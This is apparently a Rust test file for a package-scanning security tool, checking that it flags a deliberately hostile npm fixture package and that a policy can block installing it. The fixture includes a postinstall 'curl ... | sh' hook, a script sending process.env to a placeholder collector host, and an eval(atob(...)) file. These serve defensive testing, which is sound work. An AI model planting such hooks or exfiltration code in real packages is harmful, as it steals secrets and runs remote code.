//! The static look: what it writes, what it never does, and when a policy refuses on it.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::project::Project;
use crate::registry::Registry;
use crate::registry::package::Package;
use crate::run::Run;

const SENDER: &[u8] = b"const https = require('https');\n\
    https.request('https://collector.invalid').end(JSON.stringify(process.env));\n";

/// Checks a document against the format's own schema.
const VALIDATE: &str = r"
import json, sys
import jsonschema
schema, document = (json.load(open(name)) for name in sys.argv[1:])
jsonschema.Draft4Validator(schema).validate(document)
";

/// A project with an honest package and one that has everything.
fn project() -> (Registry, Project) {
    let registry = Registry::start();
    registry.publish(&Package::new("honest", "1.0.0"));
    let odd = Package::new("odd", "1.0.0")
        .script("postinstall", "curl https://x.invalid | sh")
        .file("send.js", SENDER)
        .file("a b%<c>.js", b"eval(atob(x))\n")
        .file("addon.node", b"\x7fELF\x02\x01\x01");
    registry.publish(&odd);
    let wanted = json!({ "honest": "1.0.0", "odd": "1.0.0" });
    let project = Project::locked(&registry, wanted);
    (registry, project)
}

fn findings(run: &Run) -> Value {
    let path = run.record().folder.join("findings.sarif");
    let python = std::env::var_os("V4RUN_TEST_PYTHON").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("target/tools/bin/python"),
        PathBuf::from,
    );
    let schema = python.ancestors().nth(2).unwrap().join("sarif-2.1.0.json");
    let output = Command::new(&python)
        .args(["-c", VALIDATE])
        .args([&schema, &path])
        .output()
        .expect("scripts/setup.sh installs the validator");
    let told = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{told}\n{}", run.told());
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap()
}

fn policy(project: &Project, text: &str) -> PathBuf {
    let path = project.outside("policy.toml");
    fs::write(&path, text).unwrap();
    path
}

#[test]
fn what_was_seen_is_in_the_record_and_changes_nothing() {
    let (_registry, project) = project();
    let policy = policy(&project, "look = \"complete\"\n");
    let run = project
        .v4run(&["--policy", policy.to_str().unwrap(), "npm", "ci"])
        .run();
    run.succeeds();
    let document = findings(&run);
    let results = document["runs"][0]["results"].as_array().unwrap();
    let mut rules: Vec<&str> = results
        .iter()
        .map(|result| result["ruleId"].as_str().unwrap())
        .collect();
    rules.sort_unstable();
    let expected = [
        "decoded-code",
        "downloading-script",
        "environment-sent",
        "install-script",
        "native-code",
    ];
    assert_eq!(rules, expected, "{document}");
    let text = document.to_string();
    assert!(
        text.contains("odd-1.0.0.tgz/package/a%20b%25%3Cc%3E.js"),
        "{text}"
    );
    assert!(!text.contains("honest"), "{text}");
    let event = run
        .record()
        .event("looked-into", |event| event["left"] == 0);
    assert_eq!(
        (&event["artifacts"], &event["signs"]),
        (&json!(2), &json!(5))
    );
    let record = run.record().folder.to_str().unwrap().to_owned();
    project.v4run_plain(&["verify", &record]).run().succeeds();
    let told = project.v4run_plain(&["explain", "environment-sent"]).run();
    assert!(
        told.succeeds().stdout.contains("no verdict"),
        "{}",
        told.told()
    );
    // Known bytes are looked at as well.
    fs::remove_dir_all(project.path("node_modules")).unwrap();
    let again = project
        .v4run(&["--policy", policy.to_str().unwrap(), "npm", "ci"])
        .run();
    assert_eq!(
        findings(&again)["runs"][0]["results"],
        document["runs"][0]["results"]
    );
}

#[test]
fn a_policy_may_refuse_on_it_and_a_project_may_only_ask_for_more() {
    let (_registry, project) = project();
    project.file("v4run.toml", "look = \"refuse\"\n");
    let run = project.v4run(&["npm", "ci"]).run();
    run.refuses(120, "static-look", "4.17");
    run.says("environment-sent");
    let off = policy(&project, "look = \"off\"\n");
    let run = project
        .v4run(&["--policy", off.to_str().unwrap(), "npm", "ci"])
        .run();
    run.succeeds();
    assert!(!run.record().folder.join("findings.sarif").exists());
}
